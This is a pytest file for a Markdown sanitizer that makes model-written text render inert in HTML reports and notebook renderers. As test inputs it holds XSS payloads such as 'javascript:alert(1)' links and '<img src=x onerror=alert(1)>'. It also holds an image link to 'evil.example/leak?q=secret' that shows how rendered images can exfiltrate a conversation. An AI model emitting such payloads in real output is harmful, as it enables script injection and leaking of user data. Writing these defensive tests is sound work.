"""Model text is shown as the text the model wrote: a line that happens to look like Markdown syntax
(``60.``, ``1) foo``, ``- ``, ``[x](y)``, ``<http://…>``, a ``javascript:`` target) never becomes a list,
a link or anything active, in any place model text reaches: the live tabs and the HTML report
(``render_markdown``), and ``to_markdown()`` (``neutralize_markdown``) under a renderer we don't control.
Markdown a capable model means (bold, lists of several items, code, tables, https links) still renders.
"""

from __future__ import annotations

import html
import itertools
import re

import pytest
from html_checks import Tags, assert_inert, assert_no_script
from markdown_it import MarkdownIt

from fusion_magic.core.record import Response
from fusion_magic.fusion.report import html_report, markdown_report
from fusion_magic.fusion.result import FusionResult, Verdict
from fusion_magic.present.sanitize import escape_markdown, neutralize_markdown, render_markdown

# Text that only looks like Markdown syntax, and what a reader must see.
STRAY = {
    "60.": "60.",
    "1) foo": "1) foo",
    "- ": "-",
    "* ": "*",
    "60.\n61.": "60. 61.",
    "The answer is\n1. no list here": "The answer is 1. no list here",
    "> 42.": "42.",
    "- - nested": "- - nested",
    "[x](y)": "[x](y)",
    "[x]()": "[x]()",
    "see [x](y) and [click](javascript:alert(1))": "see [x](y) and [click](javascript:alert(1))",
    "[ref]\n\n[ref]: ./relative": "[ref] [ref]: ./relative",
    "<http://example.org>": "<http://example.org>",
    "<javascript:alert(1)>": "<javascript:alert(1)>",
    "<me@example.org>": "<me@example.org>",
    "javascript:alert(1)": "javascript:alert(1)",
    "![x](y)": "![x](y)",  # an image with an unsafe target: its text, never a request or a link
    "![x]()": "![x]()",
}
SAFE_SCHEMES = ("http:", "https:", "mailto:")


def permissive() -> MarkdownIt:
    """Like JupyterLab rendering trusted Markdown: raw HTML on, every link target trusted."""
    md = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return md


def tags(fragment: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed(fragment)
    parser.close()
    return [(tag, dict(attrs)) for tag, attrs in parser.tags]


def visible(fragment: str) -> str:
    """The text a reader sees, whitespace collapsed (zero-width spaces dropped)."""
    return " ".join(html.unescape(re.sub(r"<[^>]+>", " ", fragment)).replace("\u200b", "").split())


def assert_no_list_no_link(fragment: str) -> None:
    found = [tag for tag, _ in tags(fragment)]
    assert not {"ol", "ul", "li", "a", "img"} & set(found), fragment


# --- the live tabs and the HTML report ------------------------------------------------------------------


@pytest.mark.parametrize(("text", "seen"), STRAY.items())
def test_render_markdown_shows_stray_syntax_as_text(text: str, seen: str) -> None:
    out = render_markdown(text)
    assert_inert(out)
    assert_no_list_no_link(out)
    assert visible(out) == seen


def test_render_markdown_keeps_what_capable_models_mean() -> None:
    out = render_markdown(
        "**Steps**\n\n1. Preheat\n2. Bake\n\n- salt\n- pepper\n  - nested single detail\n\n"
        "```python\nprint('60.')\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nSee [the docs](https://example.org)."
    )
    assert "<strong>Steps</strong>" in out
    assert "<ol>\n<li>Preheat</li>\n<li>Bake</li>\n</ol>" in out
    assert "<li>pepper\n<ul>\n<li>nested single detail</li>" in out  # inside a real list, one item is fine
    assert "<pre><code class=\"language-python\">print('60.')" in out or "<pre><code>print('60.')" in out
    assert "<table>" in out and "<td>1</td>" in out
    assert '<a href="https://example.org" rel="noopener noreferrer">the docs</a>' in out


def test_an_ordered_list_not_starting_at_one_keeps_its_number() -> None:
    out = render_markdown("60. sixty\n61. sixty-one")
    assert '<ol start="60">' in out and "<li>sixty</li>" in out


def test_html_report_and_tabs_show_a_bare_number_answer_as_text() -> None:
    result = one_answer_result("60.")
    report = html_report(result)
    assert "<ol" not in report and "<p>60.</p>" in report
    assert_inert(report)


# --- to_markdown() under renderers we don't control -----------------------------------------------------


@pytest.mark.parametrize(("text", "seen"), STRAY.items())
def test_neutralized_markdown_shows_stray_syntax_as_text(text: str, seen: str) -> None:
    out = permissive().render(neutralize_markdown(text))
    assert_no_script(out)
    assert_no_list_no_link(out)
    assert visible(out) == seen


@pytest.mark.parametrize(("text", "seen"), STRAY.items())
def test_neutralized_markdown_is_text_for_a_second_renderer(text: str, seen: str) -> None:
    # mistune (another implementation, with raw HTML on and GFM's bare-URL autolinks) as a stand-in for
    # JupyterLab's marked: at most a bare absolute URL becomes a link, which is that renderer's own choice.
    import mistune  # nbconvert's Markdown renderer, in the dev extra: missing is a failure, not a skip
    render = mistune.create_markdown(escape=False, plugins=["table", "strikethrough", "url"])
    out = render(neutralize_markdown(text))
    assert_no_script(out)
    for tag, attrs in tags(out):
        assert tag not in ("ol", "ul", "img"), out
        if tag == "a":
            assert str(attrs.get("href")).lower().startswith(SAFE_SCHEMES), out


def test_the_issue_javascript_link_is_not_a_relative_link_in_to_markdown() -> None:
    result = one_answer_result("Try [click](javascript:alert(1)) or [docs](docs/index.html).")
    out = permissive().render(result.to_markdown())
    links = [attrs.get("href") for tag, attrs in tags(out) if tag == "a"]
    assert links == []  # before: href="java\u200bscript:alert(1)", a relative link into the Jupyter server
    assert "[click](javascript:alert(1))" in visible(out)


def test_neutralized_markdown_keeps_markdown_and_safe_links() -> None:
    md = neutralize_markdown("**bold**\n\n1. a\n2. b\n\n[site](https://example.org) and `x<y`")
    out = permissive().render(md)
    assert "<strong>bold</strong>" in out and "<ol>" in out
    assert '<a href="https://example.org">site</a>' in out


def test_neutralized_markdown_turns_images_into_text() -> None:
    # A renderer would fetch the image: the URL can carry the conversation out.
    out = permissive().render(neutralize_markdown("![pixel](https://evil.example/leak?q=secret)"))
    assert "<img" not in out and "![pixel](https://evil.example/leak?q=secret)" in visible(out)


def test_markdown_report_of_a_bare_number_answer() -> None:
    md = markdown_report(one_answer_result("60."))
    out = permissive().render(md)
    assert "<ol" not in out
    assert "<p>60.</p>" in out


FRAGMENTS = [
    "60.", "- ", "1) x", "[a](b)", "[c](javascript:alert(1))", "<img src=x onerror=alert(1)>",
    "[r]: javascript:alert(2)", "[r]", "> ", "```", "<http://h.example>", "**b**", "![i](j)", "  ",
]  # fmt: skip


@pytest.mark.parametrize("joiner", ["\n", "\n\n", " ", "\n  "])
def test_every_pair_of_fragments_stays_inert(joiner: str) -> None:
    for a, b in itertools.product(FRAGMENTS, repeat=2):
        text = a + joiner + b
        shown = render_markdown(text)
        assert_inert(shown)
        assert not any(tag == "img" for tag, _ in tags(shown)), text
        neutral = permissive().render(neutralize_markdown(text))
        assert_no_script(neutral)
        for tag, attrs in tags(neutral):
            assert tag != "img", (text, neutral)
            if tag == "a":
                assert str(attrs.get("href")).lower().startswith(SAFE_SCHEMES), (text, neutral)


# --- plain strings inside Markdown (labels, ids, errors, notes, warnings) --------------------------------


@pytest.mark.parametrize(
    "plain",
    ["60.", "1) foo", "- x", "# not a heading", "> not a quote", "a_b*c*", "[x](y)", "<b>x</b>", "x | y",
     "~~no~~", "`code`", "AT&T", "C:\\new\\*", "---", "openrouter:anthropic/claude-3.7-sonnet",
     "$0.000070 · cost $", "12→4 tok · ~4"],
)  # fmt: skip
def test_escape_markdown_renders_as_exactly_the_text(plain: str) -> None:
    out = permissive().render(f"- {escape_markdown(plain)}")
    assert out == f"<ul>\n<li>{html.escape(plain, quote=False)}</li>\n</ul>\n"


# --- helpers ---------------------------------------------------------------------------------------------


def one_answer_result(text: str) -> FusionResult:
    member = Response(model="openai:gpt-4o", text=text, status="ok", label="gpt-4o", call_id=1, attempts=1,
                      input_tokens=3, output_tokens=1, cost_usd=0.0, latency_s=0.5)  # fmt: skip
    verdict = Verdict(model="vote", mode="best-of", reasoning="Only one answer.", answer=text,
                      choice="openai:gpt-4o", choice_label="gpt-4o")  # fmt: skip
    return FusionResult(prompt="6 x 10?", mode="best-of", judge="vote", pool=["openai:gpt-4o"],
                        responses=[member], verdict=verdict, answer=text, wall_s=0.5)  # fmt: skip
